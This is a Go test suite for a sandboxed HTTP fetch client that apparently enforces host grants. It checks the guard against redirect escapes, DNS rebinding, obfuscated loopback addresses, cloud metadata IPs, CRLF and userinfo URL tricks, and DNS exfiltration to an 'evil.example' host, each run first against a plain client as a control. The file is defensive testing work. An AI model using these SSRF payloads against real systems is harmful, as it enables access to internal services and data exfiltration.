package httpfetch

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/wasmtools/wasmtools/tool"
)

// The escapes below are known from other runtimes. Each runs twice: against an
// ordinary client, where it must succeed, and against ours.

// TestRedirectToUngrantedHost: extism/go-sdk 1.7.1 checks the first URL only.
func TestRedirectToUngrantedHost(t *testing.T) {
	var hits atomic.Int32
	inside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "inside")
	}))
	defer inside.Close()
	entry := httptest.NewServer(http.RedirectHandler(inside.URL+"/admin", http.StatusFound))
	defer entry.Close()

	resp, err := http.Get(entry.URL)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "inside" || hits.Load() != 1 {
		t.Fatalf("control: plain client got %q, %d hits; the attack should work without the guard", body, hits.Load())
	}

	g := Grant{Hosts: []HostRule{{Host: entry.Listener.Addr().String(), Private: true}}}
	got, err := New(Options{}).Do(t.Context(), g, Request{URL: entry.URL})
	wantCode(t, "Do", err, tool.GrantMissing, inside.Listener.Addr().String(), "GET", "after a redirect from "+entry.URL)
	if hits.Load() != 1 {
		t.Errorf("the server that is not granted was reached")
	}
	if len(got.Hops) != 1 || got.Hops[0].Status != 302 {
		t.Errorf("Hops = %+v; want the one redirect, for the evidence", got.Hops)
	}

	g.Hosts = append(g.Hosts, HostRule{Host: inside.Listener.Addr().String(), Private: true})
	got, err = New(Options{}).Do(t.Context(), g, Request{URL: entry.URL})
	if err != nil || string(got.Body) != "inside" || len(got.Hops) != 2 || got.FinalURL != inside.URL+"/admin" {
		t.Errorf("Do with both granted = %q %q %d hops, %v", got.Body, got.FinalURL, len(got.Hops), err)
	}
}

// TestRedirectToPrivateAddress: the name is granted, what it leads to is not.
func TestRedirectToPrivateAddress(t *testing.T) {
	w := newWorld(t)
	w.name("shop.example.com", "93.184.216.34")
	w.name("internal.example.com", "127.0.0.1")
	inside := httptest.NewServer(text("inside"))
	defer inside.Close()
	_, port, _ := net.SplitHostPort(inside.Listener.Addr().String())
	w.serve("93.184.216.34:80", func(rw http.ResponseWriter, r *http.Request) {
		http.Redirect(rw, r, "http://internal.example.com:"+port, http.StatusFound)
	})
	resp, err := w.plain().Get("http://shop.example.com/")
	if err != nil {
		t.Fatal(err)
	}
	if body, _ := io.ReadAll(resp.Body); string(body) != "inside" {
		t.Fatalf("control: got %q; the attack should work without the guard", body)
	}
	resp.Body.Close()
	_, err = w.do(hosts("*.example.com", "*.example.com:"+port), Request{URL: "http://shop.example.com/"})
	wantCode(t, "Do", err, tool.GrantMissing, "loopback", "private access")
}

// TestDNSRebinding: a name server gives a public address to whoever checks and
// a loopback address to whoever dials. Guard and control share one resolver of
// the standard library.
func TestDNSRebinding(t *testing.T) {
	inside := httptest.NewServer(text("inside"))
	defer inside.Close()
	port := inside.Listener.Addr().(*net.TCPAddr).Port
	var n atomic.Int32
	resolver := nameServer(t, func(string) netip.Addr {
		if n.Add(1)%2 == 1 {
			return netip.MustParseAddr("93.184.216.34")
		}
		return netip.MustParseAddr("127.0.0.1")
	})
	target := fmt.Sprintf("http://evil.example.com:%d/", port)

	// Control: check by name, then hand the name to an ordinary client.
	checked, err := resolver.LookupNetIP(t.Context(), "ip4", "evil.example.com")
	if err != nil || len(checked) != 1 || classify(checked[0]) != public {
		t.Fatalf("control: check saw %v, %v; want a public address", checked, err)
	}
	d := &net.Dialer{Resolver: resolver}
	resp, err := (&http.Client{Transport: &http.Transport{DialContext: d.DialContext}}).Get(target)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "inside" {
		t.Fatalf("control: got %q; the attack should work without the guard", body)
	}

	var dialled []netip.AddrPort
	c := New(Options{Resolver: resolver, Dial: func(_ context.Context, a netip.AddrPort) (net.Conn, error) {
		dialled = append(dialled, a)
		return nil, fmt.Errorf("no such server")
	}})
	g := hosts(fmt.Sprintf("evil.example.com:%d", port))
	before := n.Load()
	_, err = c.Do(t.Context(), g, Request{URL: target})
	wantCode(t, "Do", err, tool.Upstream)
	if want := netip.MustParseAddrPort(fmt.Sprintf("93.184.216.34:%d", port)); len(dialled) != 1 || dialled[0] != want {
		t.Errorf("dialled %v; want only the checked %v", dialled, want)
	}
	if n.Load() != before+1 {
		t.Errorf("the name was looked up %d times; want once", n.Load()-before)
	}
	// The other order: now the answer is loopback.
	dialled = nil
	_, err = c.Do(t.Context(), g, Request{URL: target})
	wantCode(t, "Do", err, tool.GrantMissing, "loopback")
	if dialled != nil {
		t.Errorf("dialled %v after a refusal", dialled)
	}
}

// TestDialTCP: the real dialler connects to the address and to nothing else.
func TestDialTCP(t *testing.T) {
	s := httptest.NewServer(text("ok"))
	defer s.Close()
	a := netip.MustParseAddrPort(s.Listener.Addr().String())
	conn, err := dialTCP(t.Context(), a)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if got := conn.RemoteAddr().String(); got != a.String() {
		t.Errorf("connected to %s; want %v", got, a)
	}
}

// TestSystemResolver: the default resolver asks for absolute names.
func TestSystemResolver(t *testing.T) {
	if _, err := net.DefaultResolver.LookupNetIP(t.Context(), "ip", "localhost"); err != nil {
		t.Skipf("this machine does not resolve localhost: %v", err)
	}
	s := httptest.NewServer(text("ok"))
	defer s.Close()
	_, port, _ := net.SplitHostPort(s.Listener.Addr().String())
	host := "localhost:" + port
	_, err := New(Options{}).Do(t.Context(), hosts(host), Request{URL: "http://" + host})
	wantCode(t, "Do", err, tool.GrantMissing, "loopback")
	got, err := New(Options{}).Do(t.Context(), Grant{Hosts: []HostRule{{Host: host, Private: true}}}, Request{URL: "http://" + host})
	if err != nil || string(got.Body) != "ok" || got.Usage.Sent == 0 || got.Usage.Received == 0 || got.Hops[0].Address != "127.0.0.1:"+port {
		t.Errorf("Do = %+v, %v", got, err)
	}
}

// TestAbsoluteNames: a search domain cannot turn a granted name into another.
func TestAbsoluteNames(t *testing.T) {
	w := newWorld(t)
	for _, host := range []string{"api.example.com", "a.b", "localhost"} {
		absolute{w}.LookupNetIP(t.Context(), "ip", host)
	}
	if got := strings.Join(w.lookups, " "); got != "api.example.com. a.b. localhost" {
		t.Errorf("looked up %s", got)
	}
	if r, ok := New(Options{}).resolver.(absolute); !ok || r.Resolver != net.DefaultResolver {
		t.Errorf("the default resolver is %T", r)
	}
}

func TestSpellingsOfLoopback(t *testing.T) {
	w := newWorld(t)
	inside := httptest.NewServer(text("inside"))
	defer inside.Close()
	_, port, _ := net.SplitHostPort(inside.Listener.Addr().String())
	w.name("localhost", "127.0.0.1")
	// Controls for the two spellings that Go's own client takes.
	for _, host := range []string{"[::ffff:127.0.0.1]", "localhost"} {
		resp, err := w.plain().Get("http://" + host + ":" + port)
		if err != nil {
			t.Fatalf("control: %s: %v; the attack should work without the guard", host, err)
		}
		resp.Body.Close()
	}
	for _, host := range []string{
		"127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0X7F.0.0.1", "0177.0.0.1",
		"017700000001", "127.0.0.1.", "0", "0.0.0.0", "0x", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
		"[::127.0.0.1]", "[64:ff9b::127.0.0.1]", "[64:ff9b:1::127.0.0.1]", "[2002:7f00:1::]", "[2001:0:7f00:1::]",
		"[fe80::1%25lo]", "[::1%25lo]", "localhost", "LOCALHOST", "localhost.", "%6cocalhost", "①②⑦.⓪.⓪.①", "ⓛocalhost",
		"[2606:4700::5efe:7f00:1]",
	} {
		raw := "http://" + host + ":" + port
		// Even a person who granted everything public, or the very text as it
		// stands, did not grant this machine.
		for _, g := range []Grant{hosts("*", "*:"+port), hosts(host + ":" + port)} {
			got, err := w.do(g, Request{URL: raw})
			if err == nil {
				t.Errorf("Do(%s) = %q; want a refusal", raw, got.Body)
			}
			switch tool.CodeOf(err) {
			case tool.GrantMissing, tool.InvalidArguments, tool.NotAvailable:
			default:
				t.Errorf("Do(%s) = %v; want grant_missing, invalid_arguments or not_available", raw, err)
			}
		}
	}
	if len(w.dials) > 2 {
		t.Errorf("dialled %v beyond the controls", w.dials[2:])
	}
}

func TestOneBadAnswerRefusesAll(t *testing.T) {
	w := newWorld(t)
	w.name("mixed.example.com", "93.184.216.34", "10.0.0.5")
	w.serve("93.184.216.34:80", text("out"))
	_, err := w.do(hosts("mixed.example.com"), Request{URL: "http://mixed.example.com"})
	wantCode(t, "Do", err, tool.GrantMissing, "private address")
	if strings.Contains(err.Error(), "10.0.0.5") {
		t.Errorf("Do = %v; the guest must not learn the address", err)
	}
	if len(w.dials) > 0 {
		t.Errorf("dialled %v", w.dials)
	}
}

func TestOwnAddressCountsAsLoopback(t *testing.T) {
	w := newWorld(t)
	w.name("me.example.com", "93.184.216.34")
	w.serve("93.184.216.34:80", text("a service of this machine"))
	g := hosts("me.example.com")
	if _, err := w.do(g, Request{URL: "http://me.example.com"}); err != nil {
		t.Fatalf("control: %v", err)
	}
	w.opts.LocalAddresses = func() ([]netip.Addr, error) { return []netip.Addr{netip.MustParseAddr("93.184.216.34")}, nil }
	_, err := w.do(g, Request{URL: "http://me.example.com"})
	wantCode(t, "Do", err, tool.GrantMissing, "loopback")
	w.name("gateway.example.com", "64:ff9b::93.184.216.34")
	w.serve("[64:ff9b::93.184.216.34]:80", text("the same by a gateway"))
	_, err = w.do(hosts("gateway.example.com"), Request{URL: "http://gateway.example.com"})
	wantCode(t, "Do by a gateway", err, tool.GrantMissing, "loopback")
	w.opts.LocalAddresses = func() ([]netip.Addr, error) { return nil, nil }
	if _, err := w.do(hosts("gateway.example.com"), Request{URL: "http://gateway.example.com"}); err != nil {
		t.Fatalf("control: %v", err)
	}
	w.opts.LocalAddresses = func() ([]netip.Addr, error) { return nil, fmt.Errorf("no list") }
	_, err = w.do(g, Request{URL: "http://me.example.com"})
	wantCode(t, "Do without the list", err, tool.Internal)
	list, err := interfaceAddresses()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range list {
		if !a.IsValid() || a.Is4In6() {
			t.Errorf("interfaceAddresses has %v", a)
		}
	}
}

func TestPrivateNeedsToBeNamed(t *testing.T) {
	for _, c := range []struct {
		host, addr string
		rule       HostRule
		ok         bool
	}{
		{"nas.example.com", "192.168.1.2", HostRule{Host: "nas.example.com"}, false},
		{"nas.example.com", "192.168.1.2", HostRule{Host: "nas.example.com", Private: true}, true},
		{"nas.example.com", "127.0.0.1", HostRule{Host: "nas.example.com", Private: true}, true},
		{"nas.example.com", "fd12::1", HostRule{Host: "nas.example.com", Private: true}, true},
		{"nas.example.com", "0.0.0.0", HostRule{Host: "nas.example.com", Private: true}, false},
		{"nas.example.com", "169.254.169.254", HostRule{Host: "nas.example.com", Private: true}, false},
		{"nas.example.com", "169.254.7.7", HostRule{Host: "nas.example.com", Private: true}, false},
		{"nas.example.com", "fd00:ec2::254", HostRule{Host: "nas.example.com", Private: true}, false},
		{"nas.example.com", "100.100.100.200", HostRule{Host: "nas.example.com", Private: true}, false},
		{"169.254.169.254", "", HostRule{Host: "169.254.169.254"}, false},
		{"169.254.169.254", "", HostRule{Host: "169.254.169.254", Private: true}, true},
		{"[fd00:ec2::254]", "", HostRule{Host: "[fd00:ec2::254]", Private: true}, true},
		{"192.168.1.2", "", HostRule{Host: "192.168.1.2"}, false},
		{"192.168.1.2", "", HostRule{Host: "192.168.1.2", Private: true}, true},
		{"192.168.1.2", "", HostRule{Host: "*"}, false},
		{"93.184.216.34", "", HostRule{Host: "*"}, false}, // "*" is for names
		{"93.184.216.34", "", HostRule{Host: "93.184.216.34"}, true},
		{"224.0.0.1", "", HostRule{Host: "224.0.0.1", Private: true}, false},
	} {
		w := newWorld(t)
		s := httptest.NewServer(text("ok"))
		addr := c.addr
		if addr == "" {
			addr = strings.Trim(c.host, "[]")
		} else {
			w.name(c.host, addr)
		}
		w.servers[netip.AddrPortFrom(netip.MustParseAddr(addr), 80)] = s.Listener.Addr().String()
		if resp, err := w.plain().Get("http://" + c.host); err != nil {
			t.Fatalf("control: %v", err)
		} else {
			resp.Body.Close()
		}
		_, err := w.do(Grant{Hosts: []HostRule{c.rule}}, Request{URL: "http://" + c.host})
		if c.ok != (err == nil) {
			t.Errorf("Do(%s at %s) under %+v = %v; want ok %v", c.host, addr, c.rule, err, c.ok)
		}
		if err != nil {
			wantCode(t, "Do", err, tool.GrantMissing)
		}
		s.Close()
	}
}

// TestUngrantedNamesAreNotLookedUp: a look-up alone can carry data out.
func TestUngrantedNamesAreNotLookedUp(t *testing.T) {
	w := newWorld(t)
	w.name("api.example.com", "93.184.216.34")
	w.serve("93.184.216.34:80", func(rw http.ResponseWriter, r *http.Request) {
		http.Redirect(rw, r, "http://c3RvbGVu.evil.example/", http.StatusFound)
	})
	for _, u := range []string{"http://c3RvbGVu.evil.example/", "http://api.example.com/"} {
		_, err := w.do(hosts("api.example.com"), Request{URL: u})
		wantCode(t, "Do", err, tool.GrantMissing, "evil.example")
	}
	if got := strings.Join(w.lookups, " "); got != "api.example.com" {
		t.Errorf("looked up %q; want only the granted name", got)
	}
	if resp, err := w.plain().Get("http://api.example.com/"); err == nil {
		resp.Body.Close()
	}
	if got := w.lookups[len(w.lookups)-1]; got != "c3RvbGVu.evil.example" {
		t.Errorf("control: the plain client looked up %q last", got)
	}
}

// TestProxyFromEnvironment runs in a child, because net/http reads the
// environment once.
func TestProxyFromEnvironment(t *testing.T) {
	if os.Getenv("HTTPFETCH_PROXY_CHILD") == "" {
		var hits atomic.Int32
		proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			hits.Add(1)
			fmt.Fprint(w, "by proxy")
		}))
		defer proxy.Close()
		cmd := exec.Command(os.Args[0], "-test.run=^TestProxyFromEnvironment$", "-test.v")
		cmd.Env = append(os.Environ(), "HTTPFETCH_PROXY_CHILD=1", "HTTP_PROXY="+proxy.URL, "http_proxy="+proxy.URL, "NO_PROXY=", "no_proxy=")
		out, err := cmd.CombinedOutput()
		if err != nil || !strings.Contains(string(out), "child done") {
			t.Fatalf("child: %v\n%s", err, out)
		}
		if hits.Load() != 1 {
			t.Errorf("the proxy was asked %d times; want once, by the control", hits.Load())
		}
		return
	}
	w := newWorld(t)
	w.name("api.example.com", "93.184.216.34")
	w.serve("93.184.216.34:80", func(rw http.ResponseWriter, r *http.Request) { fmt.Fprint(rw, "direct ", r.RequestURI) })
	resp, err := http.Get("http://api.example.com/")
	if err != nil {
		t.Fatal(err)
	}
	if body, _ := io.ReadAll(resp.Body); string(body) != "by proxy" {
		t.Errorf("control: got %q; the default client should use the proxy", body)
	}
	resp.Body.Close()
	got, err := w.do(hosts("api.example.com"), Request{URL: "http://api.example.com/"})
	if err != nil || string(got.Body) != "direct /" {
		t.Errorf("Do = %q, %v; want a request as for a server, not for a proxy", got.Body, err)
	}
	fmt.Println("child done")
}

func TestNothingIsSharedBetweenCalls(t *testing.T) {
	w := newWorld(t)
	w.name("api.example.com", "93.184.216.34")
	var cookies []string
	w.serve("93.184.216.34:80", func(rw http.ResponseWriter, r *http.Request) {
		cookies = append(cookies, r.Header.Get("Cookie"))
		http.SetCookie(rw, &http.Cookie{Name: "session", Value: "1", Path: "/"})
		if r.URL.Path == "/" {
			http.Redirect(rw, r, "/next", http.StatusFound)
		}
	})
	jar, _ := cookiejar.New(nil)
	control := w.plain()
	control.Jar = jar
	resp, err := control.Get("http://api.example.com/")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if cookies[1] != "session=1" {
		t.Fatalf("control: cookies %q; a client with a jar should have sent one", cookies)
	}
	cookies, w.dials = nil, nil
	c := New(w.opts)
	for range 2 {
		if _, err := c.Do(t.Context(), hosts("api.example.com"), Request{URL: "http://api.example.com/"}); err != nil {
			t.Fatal(err)
		}
	}
	if got := strings.Join(cookies, ""); got != "" {
		t.Errorf("cookies %q were sent", cookies)
	}
	if len(w.dials) != 4 {
		t.Errorf("%d connections for 4 hops; want one each", len(w.dials))
	}
}

func TestFalseURLs(t *testing.T) {
	w := newWorld(t)
	w.name("api.example.com", "93.184.216.34")
	w.name("evil.example", "93.184.216.34")
	w.serve("93.184.216.34:80", text("ok"))
	g := hosts("api.example.com", "evil.example", "api.example.com:8080")
	for _, u := range []string{
		"", "/", "//api.example.com/", "api.example.com", "ftp://api.example.com/", "file:///etc/passwd", "http:api.example.com",
		"http://", "http:///x", "http://:80/", "http://user@api.example.com/", "http://user:pw@api.example.com/", "http://@api.example.com/",
		"http://api.example.com@evil.example/", "http://api.example.com\\@evil.example/", "http://api.example.com:80:90/",
		"http://api.example.com:0/", "http://api.example.com:080/", "http://api.example.com:65536/", "http://api.example.com:+80/",
		"http://api.example.com:8o/", "http://api..example.com/", "http://.api.example.com/", "http://api.example.com../",
		"http://api.exämple.com/", "http://api.example.com%00.evil.example/", "http://api.example.com%2f.evil.example/",
		"http://api.example.com\r\nHost: evil.example/", "http://api.example.com\t/", "http://api.example.com /", "http://[api.example.com]/",
		"http://[::1/", "http://api.example.com/\x00", "http://" + strings.Repeat("a", 64) + ".example.com/",
		"http://" + strings.Repeat("a.", 130) + "com/", "http://api.example.com/" + strings.Repeat("a", 9000), "blob:http://api.example.com/",
		"http://*.example.com/", "http://*/",
	} {
		_, err := w.do(g, Request{URL: u})
		wantCode(t, fmt.Sprintf("Do(%.60q)", u), err, tool.InvalidArguments, "url:")
	}
	for _, u := range []string{
		"http://api.example.com", "HTTP://API.example.COM/", "http://api.example.com:80/", "http://api.example.com:/", "http://api.example.com./",
		"http://api.example.com/a b", "http://api.example.com//evil.example/", "http://api.example.com/?q=http://x@y/#frag",
	} {
		got, err := w.do(g, Request{URL: u})
		if err != nil || !strings.HasPrefix(got.FinalURL, "http://api.example.com") {
			t.Errorf("Do(%q) = %q, %v; want ok", u, got.FinalURL, err)
		}
	}
	// What is sent is what was checked.
	w.serve("93.184.216.34:80", func(rw http.ResponseWriter, r *http.Request) { fmt.Fprint(rw, r.Host, " ", r.RequestURI) })
	got, err := w.do(g, Request{URL: "http://API.Example.com.:80//x/%2e%2e/?a=b#c"})
	if err != nil || string(got.Body) != "api.example.com //x/%2e%2e/?a=b" {
		t.Errorf("sent %q, %v", got.Body, err)
	}
	if u, err := url.Parse(got.FinalURL); err != nil || u.Host != "api.example.com" {
		t.Errorf("FinalURL = %q, %v", got.FinalURL, err)
	}
}

// TestQueryStaysInItsLine: what is behind a blank in the request's line is for a
// server the protocol, or nothing it should see. The control is a plain client,
// which sends a query as it was given.
func TestQueryStaysInItsLine(t *testing.T) {
	w := newWorld(t)
	w.name("api.example.com", "93.184.216.34")
	server, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer server.Close()
	w.servers[netip.MustParseAddrPort("93.184.216.34:80")] = server.Addr().String()
	lines := make(chan string, 1)
	go func() {
		for {
			c, err := server.Accept()
			if err != nil {
				return
			}
			line, _ := newReader(c).ReadString('\n')
			lines <- strings.TrimSpace(line)
			fmt.Fprint(c, "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
			c.Close()
		}
	}()
	const raw = "http://api.example.com/a?b HTTP/1.0\u00a0c"
	resp, err := w.plain().Get(raw)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if got := <-lines; !strings.HasPrefix(got, "GET /a?b HTTP/1.0\u00a0c HTTP") {
		t.Fatalf("control: a plain client sends %q", got)
	}
	if _, err := w.do(hosts("api.example.com"), Request{URL: raw}); err != nil {
		t.Fatal(err)
	}
	if got, want := <-lines, "GET /a?b%20HTTP/1.0%C2%A0c HTTP/1.1"; got != want {
		t.Errorf("sent %q, want %q", got, want)
	}
}
